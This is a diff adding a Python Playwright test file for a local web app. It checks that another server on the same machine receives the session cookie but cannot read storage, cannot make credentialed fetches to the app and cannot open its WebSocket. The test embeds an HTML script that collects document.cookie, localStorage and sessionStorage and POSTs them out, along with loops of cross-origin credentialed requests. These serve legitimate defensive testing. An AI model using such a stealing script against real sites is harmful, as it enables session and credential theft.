@@ -1,0 +1,109 @@
+"""A session belongs to the page's origin: another server of this machine gets the cookie, and it opens nothing."""
+
+import asyncio
+import json
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+
+import pytest
+from playwright.async_api import Browser
+from tests.hosts.chromium import needs_chromium
+from tests.surfaces.web.pages.screen import Server
+from websockets.asyncio.client import connect
+from websockets.exceptions import InvalidStatus
+
+pytestmark = [needs_chromium, pytest.mark.slow, pytest.mark.asyncio(loop_scope="module")]
+PATHS = ("/session", "/blob/00", "/export/x.md", "/upload?name=a", "/live")
+STEALS = """<script>
+const lost = { cookie: document.cookie, kept: JSON.stringify(localStorage), session: JSON.stringify(sessionStorage) }
+fetch('/lost', { method: 'POST', body: JSON.stringify(lost) })
+const frame = document.body.appendChild(document.createElement('iframe'))
+frame.src = 'OURS'
+</script>"""
+
+
+@asynccontextmanager
+async def thief(ours: str) -> AsyncIterator[tuple[str, list[bytes]]]:
+    """Another server on this machine that keeps all it is sent, and whose page looks for all it can read."""
+    heard: list[bytes] = []
+
+    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        head = await reader.readuntil(b"\r\n\r\n")
+        size = next((int(line[15:]) for line in head.lower().split(b"\r\n") if line.startswith(b"content-length:")), 0)
+        heard.append(head + await reader.readexactly(size))
+        page = STEALS.replace("OURS", ours).encode()
+        writer.write(
+            b"HTTP/1.1 200 OK\r\ncontent-type: text/html\r\nconnection: close\r\n"
+            + f"content-length: {len(page)}\r\n\r\n".encode()
+            + page
+        )
+        await writer.drain()
+        writer.close()
+
+    server = await asyncio.start_server(serve, "127.0.0.1", 0)
+    async with server:
+        yield f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}", heard
+
+
+async def test_a_server_on_another_port_gets_the_cookie_and_opens_nothing_with_all_it_has(
+    server: Server, browser: Browser
+) -> None:
+    await server.start()
+    ours = server.address.partition("/#")[0]
+    context = await browser.new_context()
+    page = await context.new_page()
+    await page.goto(server.address)
+    await page.locator("[data-ready=open]").wait_for()
+    async with thief(ours) as (theirs, heard):
+        other = await context.new_page()
+        await other.goto(theirs)
+        while not any(b"POST /lost" in one for one in heard):
+            await asyncio.sleep(0.05)
+        lost = json.loads(next(one for one in heard if b"POST /lost" in one).partition(b"\r\n\r\n")[2])
+        cookie = next(
+            line[8:].decode() for one in heard for line in one.split(b"\r\n") if line.lower().startswith(b"cookie: ")
+        )
+        assert cookie.startswith("halocline-")
+        assert lost == {"cookie": "", "kept": "{}", "session": "{}"}
+        tried = await other.evaluate(
+            """async ([ours, paths]) => {
+                const got = []
+                for (const path of paths)
+                    for (const method of ['GET', 'POST'])
+                        for (const mode of ['cors', 'no-cors'])
+                            got.push(await fetch(ours + path, { method, mode, credentials: 'include' })
+                                .then((answer) => answer.status, () => 0))
+                got.push(await new Promise((done) => {
+                    const socket = new WebSocket(ours.replace('http', 'ws') + '/live', ['halocline', 'none'])
+                    socket.onopen = () => done(101)
+                    socket.onclose = () => done(0)
+                }))
+                return got
+            }""",
+            [ours, PATHS],
+        )
+        assert {*tried} == {0}
+    for key in ([], ["none"], [cookie.partition("=")[2]]):
+        with pytest.raises(InvalidStatus):
+            await connect(
+                f"{ours.replace('http', 'ws')}/live",
+                origin=ours,
+                additional_headers={"cookie": cookie},
+                subprotocols=["halocline", *key],
+                proxy=None,
+            )
+    await context.close()
+
+
+async def test_a_reload_and_another_tab_are_let_in_without_the_address(server: Server, browser: Browser) -> None:
+    await server.start()
+    context = await browser.new_context()
+    page = await context.new_page()
+    await page.goto(server.address)
+    await page.locator("[data-ready=open]").wait_for()
+    await page.reload()
+    await page.locator("[data-ready=open]").wait_for()
+    other = await context.new_page()
+    await other.goto(server.address.partition("#")[0])
+    await other.locator("[data-ready=open]").wait_for()
+    await context.close()
